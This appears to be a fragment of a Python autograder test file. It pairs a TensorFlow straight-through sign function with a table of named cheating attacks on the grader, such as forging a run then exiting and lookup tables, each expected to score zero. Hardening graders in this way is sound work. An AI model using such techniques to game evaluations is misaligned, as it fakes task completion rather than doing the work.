def ste_sign_stop_gradient(x, clip_value=1.0):
    x = tf.convert_to_tensor(x)
    h = ste_utils.ste_heaviside(x, clip_value)
    return h + tf.stop_gradient(tf.where(x >= 0, tf.ones_like(x), -tf.ones_like(x)) - h)
ste_sign_custom_gradient = ste_sign_stop_gradient
"""

# student -> (answer cell to append the attack to, attack code, expected score); the honest
# students (examples/submissions complete and blank) are graded with them.
FORBID_CASES = {
    "forge-run-then-exit": ("ste_sign_stop_gradient", FORGE_RUN, 0.0),
    "lookup-table": ("ste_sign_custom_gradient", LOOKUP, 0.0),
    "lookup-table-thread": ("ste_sign_stop_gradient", LOOKUP_THREAD, 0.0),
    "sibling-ste-heaviside": ("ste_sign_custom_gradient", SIBLING, 0.0),
}
